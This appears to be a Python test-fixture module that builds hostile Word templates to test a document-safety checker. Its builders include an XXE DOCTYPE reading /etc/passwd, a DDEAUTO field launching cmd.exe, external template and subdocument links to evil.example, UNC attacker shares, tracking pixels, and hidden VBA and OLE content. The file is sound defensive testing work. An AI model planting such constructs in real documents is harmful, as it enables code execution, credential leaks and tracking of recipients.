"""Hostile Word templates, built in memory: each one a way to slip something past the check.

Every builder starts from a small, valid template (one paragraph, ``{{ reference }}``) and
changes what an attacker would change, with the quoting, encodings and part names that a
pattern-matching check would miss. :data:`PACKAGE_ATTACKS` names them for the tests.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

import docx

from tests.template_builders import rewrite

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def base_template(*paragraphs: str) -> bytes:
    """Return a small valid template: the given paragraphs (``{{ reference }}`` by default)."""
    document = docx.Document()
    for text in paragraphs or ("{{ reference }}",):
        document.add_paragraph(text)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def member(data: bytes, name: str) -> bytes:
    """Return one member of a .docx."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def _document_rels(extra: str, *, quote: str = '"') -> bytes:
    """The body's relationships with ``extra`` appended (attributes quoted with ``quote``)."""
    q = quote
    return (
        XML_HEAD
        + (
            f"<Relationships xmlns={q}{REL_NS}{q}>"
            f"<Relationship Id={q}rId3{q} Type={q}{R_TYPE}/styles{q} Target={q}styles.xml{q}/>"
            f"<Relationship Id={q}rId5{q} Type={q}{R_TYPE}/settings{q} Target={q}settings.xml{q}/>"
            f"{extra}</Relationships>"
        ).encode()
    )


def _with_body(inner: str, *, extra_ns: str = "") -> bytes:
    """A document.xml whose body holds ``inner`` (Word XML)."""
    return (
        XML_HEAD
        + (
            f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_TYPE}" {extra_ns}>'
            f"<w:body>{inner}<w:sectPr/></w:body></w:document>"
        ).encode()
    )


def attached_template_single_quotes() -> bytes:
    rels = (
        f"<Relationships xmlns='{REL_NS}'><Relationship Id='rId1' "
        f"Type='{R_TYPE}/attachedTemplate' Target='https://evil.example/t.dotm' "
        "TargetMode='External'/></Relationships>"
    )
    return rewrite(base_template(), {"word/_rels/settings.xml.rels": rels.encode()})


def linked_image_single_quotes() -> bytes:
    extra = (
        f"<Relationship Id='rId9' Type='{R_TYPE}/image' "
        "Target='http://tracker.example/pixel.png' TargetMode='External'/>"
    )
    return rewrite(
        base_template(), {"word/_rels/document.xml.rels": _document_rels(extra, quote="'")}
    )


def entity_encoded_target_mode() -> bytes:
    extra = (
        f'<Relationship Id="rId9" Type="{R_TYPE}/image" Target="http://tracker.example/p.png" '
        'TargetMode="&#69;xtern&#x61;l"/>'
    )
    return rewrite(base_template(), {"word/_rels/document.xml.rels": _document_rels(extra)})


def lower_case_target_mode() -> bytes:
    extra = (
        f'<Relationship Id="rId9" Type="{R_TYPE}/frame" Target="\\\\server\\share\\x.htm" '
        'TargetMode="external"/>'
    )
    return rewrite(base_template(), {"word/_rels/document.xml.rels": _document_rels(extra)})


def utf16_relationships() -> bytes:
    text = (
        '<?xml version="1.0" encoding="UTF-16" standalone="yes"?>'
        f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" '
        f'Type="{R_TYPE}/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return rewrite(
        base_template(), {"word/_rels/settings.xml.rels": b"\xff\xfe" + text.encode("utf-16-le")}
    )


def utf16_doctype() -> bytes:
    body = member(base_template(), "word/document.xml").decode("utf-8")
    body = body.replace("encoding='UTF-8'", "encoding='UTF-16'").replace(
        "<w:document", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document', 1
    )
    return rewrite(base_template(), {"word/document.xml": body.encode("utf-16")})


def file_hyperlink() -> bytes:
    extra = (
        f'<Relationship Id="rId9" Type="{R_TYPE}/hyperlink" Target="file:///C:/secret.docx" '
        'TargetMode="External"/>'
    )
    return rewrite(base_template(), {"word/_rels/document.xml.rels": _document_rels(extra)})


def unc_hyperlink() -> bytes:
    extra = (
        f'<Relationship Id="rId9" Type="{R_TYPE}/hyperlink" Target="\\\\attacker\\share" '
        'TargetMode="External"/>'
    )
    return rewrite(base_template(), {"word/_rels/document.xml.rels": _document_rels(extra)})


def external_subdocument() -> bytes:
    extra = (
        f'<Relationship Id="rId9" Type="{R_TYPE}/subDocument" '
        'Target="https://evil.example/sub.docx" TargetMode="External"/>'
    )
    return rewrite(base_template(), {"word/_rels/document.xml.rels": _document_rels(extra)})


def _field_runs(*pieces: str) -> str:
    """A paragraph with a complex field whose instruction is split over ``pieces`` runs."""
    instruction = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
    )
    return (
        '<w:p><w:r><w:t>Voir </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{instruction}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def include_picture() -> bytes:
    field = _field_runs(' INCLUDEPICTURE "http://tracker.example/p.png" \\d ')
    return rewrite(base_template(), {"word/document.xml": _with_body(field)})


def include_text_split() -> bytes:
    field = _field_runs(" INCL", "UDET", 'EXT "C:\\\\secret.txt" ')
    return rewrite(base_template(), {"word/document.xml": _with_body(field)})


def ddeauto_lower_case() -> bytes:
    field = _field_runs('\\ ddeauto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')
    return rewrite(base_template(), {"word/document.xml": _with_body(field)})


def simple_field_link() -> bytes:
    field = (
        '<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.8 &quot;\\\\\\\\srv\\\\x.xls&quot; A1 ">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    )
    return rewrite(base_template(), {"word/document.xml": _with_body(field)})


def import_field() -> bytes:
    return rewrite(base_template(), {"word/document.xml": _with_body(_field_runs("IMPORT x"))})


OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole_package_as_image() -> bytes:
    """An OLE compound file stored as a .png picture, with no telling content type."""
    return rewrite(base_template(), {"word/media/image1.png": OLE_MAGIC + b"\x00" * 504})


def zip_in_zip() -> bytes:
    """A whole .docx embedded under a harmless name."""
    return rewrite(base_template(), {"word/media/notes.dat": base_template()})


def vba_project_renamed() -> bytes:
    """A VBA project as ``word/data.bin``, declared by its relationship and content type."""
    data = base_template()
    types = member(data, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/word/data.bin" '
        b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    extra = (
        '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="data.bin"/>'
    )
    return rewrite(
        data,
        {
            "[Content_Types].xml": types,
            "word/_rels/document.xml.rels": _document_rels(extra),
            "word/data.bin": b'Attribute VB_Name = "x"',
        },
    )


def activex_control() -> bytes:
    body = (
        '<w:p><w:r><w:object><w:control r:id="rId50" w:name="CommandButton1"/></w:object>'
        "</w:r></w:p>"
    )
    extra = f'<Relationship Id="rId50" Type="{R_TYPE}/control" Target="activeX/activeX1.xml"/>'
    control = XML_HEAD + (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>'
    )
    return rewrite(
        base_template(),
        {
            "word/document.xml": _with_body(body),
            "word/_rels/document.xml.rels": _document_rels(extra),
            "word/activeX/activeX1.xml": control,
        },
    )


def ole_object_element() -> bytes:
    body = (
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId7"/>'
        "</w:object></w:r></w:p>"
    )
    return rewrite(
        base_template(),
        {
            "word/document.xml": _with_body(
                body, extra_ns='xmlns:o="urn:schemas-microsoft-com:office:office"'
            )
        },
    )


def macro_enabled_content_type() -> bytes:
    data = base_template()
    types = member(data, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"MACROENABLED.main+xml"
    )
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.MACROENABLED",
        b"application/vnd.ms-word.document.macroEnabled",
    )
    return rewrite(data, {"[Content_Types].xml": types})


def _patch_local_and_central(
    data: bytes, name: str, patch: Callable[[bytearray, int], None]
) -> bytes:
    """Apply ``patch(buffer, offset)`` to the local header and central entry of ``name``."""
    buffer = bytearray(data)
    encoded = name.encode()
    start = 0
    while True:
        local = buffer.find(b"PK\x03\x04", start)
        if local < 0:
            break
        length = struct.unpack_from("<H", buffer, local + 26)[0]
        if bytes(buffer[local + 30 : local + 30 + length]) == encoded:
            patch(buffer, local)  # local header fields start at offset 4
            break
        start = local + 4
    central = 0
    while True:
        central = buffer.find(b"PK\x01\x02", central)
        if central < 0:
            break
        length = struct.unpack_from("<H", buffer, central + 28)[0]
        if bytes(buffer[central + 46 : central + 46 + length]) == encoded:
            patch(buffer, central + 2)  # central fields are two bytes further on
            break
        central += 4
    return bytes(buffer)


def encrypted_member() -> bytes:
    def flag(buffer: bytearray, offset: int) -> None:
        buffer[offset + 6] |= 0x01

    return _patch_local_and_central(base_template(), "word/settings.xml", flag)


def unknown_compression() -> bytes:
    def method(buffer: bytearray, offset: int) -> None:
        struct.pack_into("<H", buffer, offset + 8, 99)

    return _patch_local_and_central(base_template(), "word/settings.xml", method)


def patched_data_flag() -> bytes:
    """Flag bit 5 ("compressed patched data"), which zipfile cannot read."""

    def flag(buffer: bytearray, offset: int) -> None:
        buffer[offset + 6] |= 0x20

    return _patch_local_and_central(base_template(), "word/settings.xml", flag)


def bad_crc() -> bytes:
    def crc(buffer: bytearray, offset: int) -> None:
        value = struct.unpack_from("<I", buffer, offset + 14)[0]
        struct.pack_into("<I", buffer, offset + 14, value ^ 0xFFFF)

    return _patch_local_and_central(base_template(), "word/document.xml", crc)


def truncated_zip() -> bytes:
    data = base_template()
    return data[: len(data) // 2]


def truncated_member() -> bytes:
    """A zip whose directory is intact but whose document data is cut short (size lies)."""
    data = base_template()

    def size(buffer: bytearray, offset: int) -> None:
        value = struct.unpack_from("<I", buffer, offset + 22)[0]
        struct.pack_into("<I", buffer, offset + 22, value + 5000)

    return _patch_local_and_central(data, "word/document.xml", size)


def duplicate_member() -> bytes:
    """A second word/document.xml after the first: which one would Word read?"""
    data = base_template()
    second = member(data, "word/document.xml").replace(
        b"<w:body>", b"<w:body><w:p><w:r><w:t>autre texte</w:t></w:r></w:p>"
    )
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w") as target:
        for item in source.infolist():
            target.writestr(item.filename, source.read(item))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
            target.writestr("word/document.xml", second)
    return output.getvalue()


def document_without_body() -> bytes:
    xml = XML_HEAD + f'<w:document xmlns:w="{W_NS}"><w:p/></w:document>'.encode()
    return rewrite(base_template(), {"word/document.xml": xml})


def document_with_other_root() -> bytes:
    xml = XML_HEAD + f'<w:ftr xmlns:w="{W_NS}"><w:p><w:r><w:t>x</w:t></w:r></w:p></w:ftr>'.encode()
    return rewrite(base_template(), {"word/document.xml": xml})


def settings_of_another_type() -> bytes:
    """The settings part declared as plain XML: python-docx could not read it as settings."""
    data = base_template()
    types = member(data, "[Content_Types].xml").replace(
        b"wordprocessingml.settings+xml", b"wordprocessingml.glossary+xml"
    )
    return rewrite(data, {"[Content_Types].xml": types})


def relationship_without_target() -> bytes:
    extra = f'<Relationship Id="rId9" Type="{R_TYPE}/image"/>'
    return rewrite(base_template(), {"word/_rels/document.xml.rels": _document_rels(extra)})


def styles_not_xml() -> bytes:
    return rewrite(base_template(), {"word/styles.xml": b"<w:styles><unclosed>"})


def content_types_other_root() -> bytes:
    return rewrite(base_template(), {"[Content_Types].xml": XML_HEAD + b"<Nope/>"})


def raw_deflate(data: bytes) -> bytes:
    """Compress ``data`` as a zip member would be (raw deflate)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


#: Every hostile package, by name: what the check must refuse, and its stable code.
PACKAGE_ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "attached-template-single-quotes": (attached_template_single_quotes, "external-relationship"),
    "linked-image-single-quotes": (linked_image_single_quotes, "external-relationship"),
    "entity-encoded-target-mode": (entity_encoded_target_mode, "external-relationship"),
    "lower-case-target-mode-unc-frame": (lower_case_target_mode, "external-relationship"),
    "utf16-relationships": (utf16_relationships, "external-relationship"),
    "utf16-doctype": (utf16_doctype, "doctype"),
    "file-hyperlink": (file_hyperlink, "external-relationship"),
    "unc-hyperlink": (unc_hyperlink, "external-relationship"),
    "external-subdocument": (external_subdocument, "external-relationship"),
    "includepicture": (include_picture, "field-code"),
    "includetext-split": (include_text_split, "field-code"),
    "ddeauto-lower-case": (ddeauto_lower_case, "field-code"),
    "fldsimple-link": (simple_field_link, "field-code"),
    "import-field": (import_field, "field-code"),
    "ole-package-as-image": (ole_package_as_image, "active-content"),
    "zip-in-zip": (zip_in_zip, "active-content"),
    "vba-project-renamed": (vba_project_renamed, "macros"),
    "activex-control": (activex_control, "active-content"),
    "ole-object-element": (ole_object_element, "active-content"),
    "macro-enabled-content-type": (macro_enabled_content_type, "macros"),
    "encrypted-member": (encrypted_member, "encrypted-part"),
    "unknown-compression": (unknown_compression, "unsupported-compression"),
    "bad-crc": (bad_crc, "damaged-part"),
    "patched-data-flag": (patched_data_flag, "unsupported-compression"),
    "truncated-zip": (truncated_zip, "not-a-docx"),
    "truncated-member": (truncated_member, "damaged-part"),
    "duplicate-member": (duplicate_member, "damaged-part"),
    "document-without-body": (document_without_body, "unexpected-root"),
    "document-with-other-root": (document_with_other_root, "unexpected-root"),
    "styles-not-xml": (styles_not_xml, "invalid-xml"),
    "settings-of-another-type": (settings_of_another_type, "unexpected-root"),
    "relationship-without-target": (relationship_without_target, "unexpected-root"),
    "content-types-other-root": (content_types_other_root, "unexpected-root"),
}
